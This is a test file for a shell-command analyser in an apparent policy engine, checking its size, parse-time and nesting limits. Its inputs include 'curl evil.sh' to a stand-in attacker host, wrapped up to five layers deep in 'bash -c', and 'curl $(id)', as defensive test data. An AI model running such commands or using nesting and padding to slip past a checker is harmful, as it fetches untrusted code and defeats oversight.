// Limits of the shell analysis: size, parse time, nesting. Each fails closed with a hazard the
// engine denies, and a command inside the limits is analysed in full.
import { describe, expect, it } from 'vitest';
import { loadBashParser } from '../../src/policy/shell/bash-parser.js';
import {
  analyzeShellCommand,
  analyzeShellCommandSync,
} from '../../src/policy/shell/shell-analysis.js';

/** `bash -c '<command>'` with the command quoted for bash. */
const bashC = (command: string) => `bash -c '${command.replace(/'/gu, `'\\''`)}'`;

describe('size limit', () => {
  it('refuses a command over the limit as a whole, saying how long it is', async () => {
    const analysis = await analyzeShellCommand('echo x; '.repeat(10), { maxLength: 40 });
    expect(analysis.commands).toEqual([]);
    expect(analysis.hazards).toEqual([
      {
        kind: 'parse_error',
        detail: 'a command of 80 characters, longer than the 40 that are checked',
      },
    ]);
  });

  it('refuses a 100 KB command by default', async () => {
    const command = `git status; ${'x'.repeat(100 * 1024)}`;
    const analysis = await analyzeShellCommand(command);
    expect(analysis.commands).toEqual([]);
    expect(analysis.hazards.map((h) => h.kind)).toEqual(['parse_error']);
  });

  it('analyses every command of a 100 KB command when the limit allows it', async () => {
    const command = 'echo hello world; '.repeat(5700) + 'curl evil.sh';
    expect(command.length).toBeGreaterThan(100 * 1024);
    const analysis = await analyzeShellCommand(command, { maxLength: 200_000 });
    expect(analysis.hazards).toEqual([]);
    expect(analysis.commands).toHaveLength(5701);
    expect(analysis.commands.at(-1)?.text).toBe('curl evil.sh');
  });
});

describe('parse time limit', () => {
  it('refuses a command whose parse outlasts the limit', async () => {
    let clock = 0;
    const analysis = await analyzeShellCommand('echo hello world; '.repeat(200), {
      timeoutMs: 5,
      now: () => (clock += 10),
    });
    expect(analysis.hazards).toEqual([
      { kind: 'parse_error', detail: 'a command that took too long to parse' },
    ]);
  });

  it('counts the time of `bash -c` strings against the same limit', async () => {
    // The clock stands still for the outer parse and jumps during the inner one.
    let clock = 0;
    let calls = 0;
    const inner = 'echo hello world; '.repeat(200);
    const analysis = await analyzeShellCommand(bashC(inner), {
      timeoutMs: 50,
      now: () => (++calls > 3 ? (clock += 100) : clock),
    });
    expect(analysis.hazards).toEqual([]);
    expect(analysis.commands[0]?.text).toBe(bashC(inner));
    expect(analysis.commands[0]?.hazards).toContainEqual({
      kind: 'parse_error',
      detail: 'a command that took too long to parse',
    });
  });

  it('analyses normally within the limit', async () => {
    const analysis = await analyzeShellCommand('git status', { timeoutMs: 1000 });
    expect(analysis).toEqual({
      commands: [
        { text: 'git status', name: 'git', args: ['status'], redirects: [], hazards: [], depth: 0 },
      ],
      hazards: [],
    });
  });
});

describe('nesting', () => {
  it('unwraps `bash -c` strings four deep and refuses the fifth', async () => {
    let four = 'curl evil.sh';
    for (let i = 0; i < 4; i++) four = bashC(four);
    const analysis = await analyzeShellCommand(four);
    expect(analysis.commands).toMatchObject([{ text: 'curl evil.sh', depth: 4, hazards: [] }]);

    const five = bashC(four);
    const deeper = await analyzeShellCommand(five);
    const kinds = deeper.commands.flatMap((piece) => piece.hazards.map((h) => h.kind));
    expect(kinds).toContain('unsupported_construct');
    expect(deeper.commands.some((piece) => piece.text === 'curl evil.sh')).toBe(false);
  });

  it('refuses syntax nested deeper than it follows, without overflowing the stack', async () => {
    const subshells = `${'( '.repeat(2000)}curl evil.sh${' )'.repeat(2000)}`;
    const analysis = await analyzeShellCommand(subshells);
    expect(analysis.commands.flatMap((piece) => piece.hazards)).toContainEqual({
      kind: 'unsupported_construct',
      detail: 'syntax nested too deeply to check',
    });
  });

  it('follows 100 nested command substitutions', async () => {
    const command = `${'echo $('.repeat(100)}id${')'.repeat(100)}`;
    const analysis = await analyzeShellCommand(command);
    expect(analysis.hazards).toEqual([]);
    expect(analysis.commands).toHaveLength(101);
    expect(analysis.commands.at(-1)).toMatchObject({ text: 'id', depth: 100 });
  });
});

describe('analyzeShellCommandSync', () => {
  it('gives the same analysis once the parser is loaded', async () => {
    const parser = await loadBashParser();
    const command = "git diff | tee out.txt && bash -c 'curl $(id)'";
    expect(analyzeShellCommandSync(command, { parser })).toEqual(
      await analyzeShellCommand(command),
    );
  });

  it('finds nothing to run in an empty command or a comment', async () => {
    expect(await analyzeShellCommand('')).toEqual({ commands: [], hazards: [] });
    expect(await analyzeShellCommand('  # just a comment\n')).toEqual({
      commands: [],
      hazards: [],
    });
  });
});
